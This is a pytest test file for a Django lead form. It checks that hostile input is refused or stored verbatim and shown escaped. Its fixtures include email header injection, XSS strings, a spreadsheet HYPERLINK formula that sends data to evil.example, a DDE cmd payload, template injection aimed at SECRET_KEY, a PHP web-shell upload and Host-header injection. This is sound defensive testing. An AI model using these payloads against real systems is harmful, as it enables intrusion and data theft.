"""Whatever a visitor (or a bot) sends: never a 5xx; a 4xx that says what is wrong, or a stored
submission that is kept verbatim and shown escaped."""

from urllib.parse import urlencode

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils.html import escape

from leads.models import Submission
from tests.factories import lead_form_data, make_cta

pytestmark = pytest.mark.django_db

FORM = "application/x-www-form-urlencoded"
CONTROL = "Use letters, numbers and punctuation only, on one line."
BAD_EMAIL = "Enter an email address like name@company.com."
MESSAGE_CONTROL = "Remove the invisible control characters from your message."
DAMAGED = "The form arrived damaged. Please send it again."
MISSING = "Part of the form is missing. Please reload the page and try again."

# (field, value, the message the visitor reads)
REFUSED = {
    "nul in name": ("name", "Ana\x00Lima", CONTROL),
    "escape sequence in name": ("name", "Ana \x1b[31mLima", CONTROL),
    "line separator in name": ("name", "Ana\u2028Lima", CONTROL),
    "newline in name": ("name", "Ana Lima\nBcc: x@evil.example", CONTROL),
    "tab in company": ("company", "Acme\tLtd", CONTROL),
    "nul in email": ("email", "ana\x00@acme.example", BAD_EMAIL),
    "header injection in email": ("email", "ana@example.com\r\nBcc: x@evil.example", BAD_EMAIL),
    "dotted capital I in email": ("email", "\u0130na@acme.example", BAD_EMAIL),
    "dotless i in email": ("email", "\u0131na@acme.example", BAD_EMAIL),
    "bell in message": ("message", "Ring\x07ring", MESSAGE_CONTROL),
    "nul in message": ("message", "Hello\x00", MESSAGE_CONTROL),
    "10k name": ("name", "A" * 10_000, "at most 120 characters (it has 10000)"),
    "10k email": ("email", "a" * 10_000 + "@acme.example", "at most 254 characters"),
    "10k message": ("message", "Lorem " * 2000, "at most 2000 characters (it has 11999)"),
    "unknown budget": ("budget", "1 OR 1=1", "Select a valid choice."),
    "phone with letters": ("phone", "call me maybe", "Enter a phone number with digits"),
}

SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'
# (field, value): accepted as typed, whatever it looks like.
STORED = {
    "script in message": ("message", SCRIPT),
    "template variable in message": ("message", "{{ settings.SECRET_KEY }}"),
    "template tag in message": ("message", "{% debug %}{% load static %}"),
    "formula in message": ("message", '=HYPERLINK("https://evil.example/?d="&A1,"Open")'),
    "formula in name": ("name", "=1+2"),
    "dde in company": ("company", "@SUM(1+1)*cmd|' /C calc'!A0"),
    "right-to-left override in message": ("message", "Invoice \u202egnp.exe"),
    "emoji and accents in name": ("name", "Zoë Ñúñez 👩‍💼"),
}


def submit_url(cta):
    return reverse("leads:submit", args=[cta.pk])


def submit(client, cta, data, **extra):
    return client.post(submit_url(cta), data, HTTP_ORIGIN="http://testserver", **extra)


def submit_raw(client, cta, body: bytes, content_type=FORM, **extra):
    """POST a body exactly as given, as a client that builds its own requests does."""
    return client.generic(
        "POST",
        submit_url(cta),
        body,
        content_type=content_type,
        HTTP_ORIGIN="http://testserver",
        **extra,
    )


def admin_inspect(client, submission, django_user_model):
    admin = django_user_model.objects.create_superuser("admin", "admin@example.com", "x")
    client.force_login(admin)
    response = client.get(reverse("leads_inbox:inspect", args=[submission.pk]))
    assert response.status_code == 200
    return response.content.decode()


@pytest.mark.parametrize(("field", "value", "message"), REFUSED.values(), ids=REFUSED.keys())
def test_unacceptable_answer_is_refused_with_a_clear_message(client, field, value, message):
    cta = make_cta("quote")
    response = submit(client, cta, lead_form_data(cta, **{field: value}))
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not Submission.objects.exists()


@pytest.mark.parametrize(("field", "value"), STORED.values(), ids=STORED.keys())
def test_odd_but_harmless_answer_is_stored_verbatim(client, field, value):
    cta = make_cta("quote")
    response = submit(client, cta, lead_form_data(cta, **{field: value}))
    assert response.status_code == 303
    assert Submission.objects.get().answers[field] == value


@pytest.mark.parametrize(("field", "value"), STORED.values(), ids=STORED.keys())
def test_stored_answer_is_shown_escaped_and_unevaluated_in_admin(
    client, django_user_model, field, value
):
    cta = make_cta("quote")
    submit(client, cta, lead_form_data(cta, **{field: value}))
    page = admin_inspect(client, Submission.objects.get(), django_user_model)
    assert escape(value) in page
    assert settings.SECRET_KEY not in page
    if "<" in value:
        assert value not in page


@pytest.mark.parametrize("fetch", [False, True], ids=["page", "fragment"])
def test_script_in_answers_never_reaches_the_thank_you_page_unescaped(client, fetch):
    cta = make_cta("quote")
    data = lead_form_data(cta, message=SCRIPT, company="<b>Acme</b>")
    if fetch:
        response = submit(client, cta, data, HTTP_X_REQUESTED_WITH="leadsite")
    else:
        response = client.get(submit(client, cta, data)["Location"])
    assert response.status_code == 200
    body = response.content.decode()
    assert "<script>alert" not in body
    assert "<b>Acme</b>" not in body


UNREADABLE = "Part of this arrived unreadable. Please type it again."


@pytest.mark.parametrize("field", ["name", "company", "phone"])
def test_invalid_utf8_in_a_one_line_answer_is_refused_with_a_clear_message(client, field):
    """Django decodes invalid UTF-8 as U+FFFD: a name no one could read or write back."""
    cta = make_cta("quote")
    fields = urlencode({k: v for k, v in lead_form_data(cta).items() if k != field})
    response = submit_raw(client, cta, fields.encode() + f"&{field}=".encode() + b"Ana%FF\xfeLi")
    assert response.status_code == 400
    assert UNREADABLE in response.content.decode()
    assert not Submission.objects.exists()


BIDI = {
    "right-to-left override": "\u202eamiL anA",
    "left-to-right override": "Ana \u202dLima\u202c",
    "embeddings": "\u202aAna\u202c \u202bLima\u202c",
    "isolates": "\u2066Ana\u2069 \u2067Lima\u2069 \u2068\u2069",
}


@pytest.mark.parametrize("value", BIDI.values(), ids=BIDI.keys())
@pytest.mark.parametrize("field", ["name", "company"])
def test_bidi_controls_are_removed_from_one_line_answers(client, field, value):
    """They make a name read differently from what it is, in the inbox and in mail subjects."""
    cta = make_cta("quote")
    response = submit(client, cta, lead_form_data(cta, **{field: value}))
    assert response.status_code == 303
    stored = Submission.objects.get()
    expected = "".join(
        c for c in value if c not in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    )
    assert stored.answers[field] == expected.strip()
    assert getattr(stored.contact, field) == expected.strip()


def test_right_to_left_name_is_stored_as_typed(client):
    cta = make_cta("quote")
    response = submit(
        client, cta, lead_form_data(cta, name="\u0633\u0627\u0631\u0627 \u05e9\u05e8\u05d4")
    )
    assert response.status_code == 303
    assert Submission.objects.get().answers["name"] == "\u0633\u0627\u0631\u0627 \u05e9\u05e8\u05d4"


def test_lone_surrogate_is_never_stored(client, django_user_model):
    cta = make_cta("quote")
    fields = urlencode({k: v for k, v in lead_form_data(cta).items() if k != "message"})
    response = submit_raw(client, cta, fields.encode() + b"&message=Hi%ED%A0%80there")
    assert response.status_code == 303
    submission = Submission.objects.get()
    submission.answers["message"].encode("utf-8")  # strict: raises on a lone surrogate
    assert submission.answers["message"].startswith("Hi")
    admin_inspect(client, submission, django_user_model)


def test_repeated_field_is_refused(client):
    cta = make_cta("quote")
    data = lead_form_data(cta)
    body = urlencode(data) + "&" + urlencode({"email": "other@evil.example"})
    response = submit_raw(client, cta, body.encode())
    assert response.status_code == 400
    assert "The form arrived with a field repeated." in response.content.decode()
    assert not Submission.objects.exists()


@pytest.mark.parametrize(
    ("leave_out", "message"),
    [
        (None, MISSING),
        (("token",), MISSING),
        (("email",), "Work email: This field is required."),
        (("name", "company", "budget", "timeline", "message"), "Name: This field is required."),
    ],
    ids=["everything", "token", "email", "answers"],
)
def test_missing_fields_are_refused_with_a_message(client, leave_out, message):
    cta = make_cta("quote")
    data = lead_form_data(cta)
    data = {} if leave_out is None else {k: v for k, v in data.items() if k not in leave_out}
    response = submit(client, cta, data)
    assert response.status_code == 400
    assert message in response.content.decode()


def test_json_body_is_refused(client):
    cta = make_cta("quote")
    response = submit(client, cta, lead_form_data(cta), content_type="application/json")
    assert response.status_code == 400
    assert MISSING in response.content.decode()
    assert not Submission.objects.exists()


def test_multipart_body_is_accepted_and_files_ignored(client):
    cta = make_cta("quote")
    upload = SimpleUploadedFile("evil.php", b"<?php system($_GET['c']); ?>")
    response = submit(client, cta, lead_form_data(cta) | {"attachment": upload})
    assert response.status_code == 303
    assert "attachment" not in Submission.objects.get().answers


def test_body_over_the_limit_is_refused_with_413(client):
    cta = make_cta("quote")
    message = "x" * (settings.LEAD_MAX_BODY_BYTES + 1)
    response = submit_raw(client, cta, urlencode(lead_form_data(cta, message=message)).encode())
    assert response.status_code == 413
    assert "That was more than this form can take." in response.content.decode()
    assert not Submission.objects.exists()


def test_absurd_content_length_is_refused_with_413(client):
    cta = make_cta("quote")
    body = urlencode(lead_form_data(cta)).encode()
    response = submit_raw(client, cta, body, CONTENT_LENGTH="99999999999999999999")
    assert response.status_code == 413
    assert not Submission.objects.exists()


@pytest.mark.parametrize("length", ["abc", "-1", "1e3", " 12"])
def test_malformed_content_length_is_refused_with_400(client, length):
    cta = make_cta("quote")
    body = urlencode(lead_form_data(cta)).encode()
    response = submit_raw(client, cta, body, CONTENT_LENGTH=length)
    assert response.status_code == 400
    assert DAMAGED in response.content.decode()
    assert not Submission.objects.exists()


@pytest.mark.parametrize("host", ["evil.example", "testserver\r\nX-Injected: 1", "[::1"])
def test_bad_host_header_is_400_not_500(client, host):
    cta = make_cta("quote")
    response = submit(client, cta, lead_form_data(cta), HTTP_HOST=host)
    assert response.status_code == 400
    assert not Submission.objects.exists()
